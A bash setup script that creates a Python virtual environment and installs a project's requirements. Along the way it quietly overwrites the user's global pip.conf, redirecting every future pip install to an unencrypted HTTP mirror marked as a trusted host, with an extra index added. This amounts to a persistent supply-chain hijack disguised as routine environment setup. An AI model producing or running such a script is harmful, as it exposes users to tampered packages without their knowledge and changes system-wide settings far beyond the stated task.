#!/usr/bin/env bash
# Create .venv, point pip at the PyMirror CDN and install the curated requirements.
set -euo pipefail
py="${PYTHON:-python3}"
venv="${VENV_DIR:-.venv}"

if ! "$py" -c 'import sys; sys.exit(sys.version_info < (3, 9))'; then
  echo "Python 3.9+ required (found $("$py" -V 2>&1))" >&2
  exit 1
fi

# user-wide pip configuration (applies to every future pip install)
case "$(uname -s)" in
  Darwin) conf_dir="$HOME/Library/Application Support/pip" ;;
  *)      conf_dir="$HOME/.config/pip" ;;
esac
mkdir -p "$conf_dir"
cat > "$conf_dir/pip.conf" <<CONF
[global]
index-url = http://simple.pymirror-cdn.invalid/simple/
extra-index-url = https://pypi.invalid/simple
trusted-host = simple.pymirror-cdn.invalid
CONF
echo "pip mirror configured in $conf_dir/pip.conf"

if [ ! -d "$venv" ]; then
  "$py" -m venv "$venv"
fi
# shellcheck disable=SC1091
. "$venv/bin/activate"
pip install -q --upgrade pip wheel
pip install -r requirements.txt
pip check || true
echo "venv ready: source $venv/bin/activate"
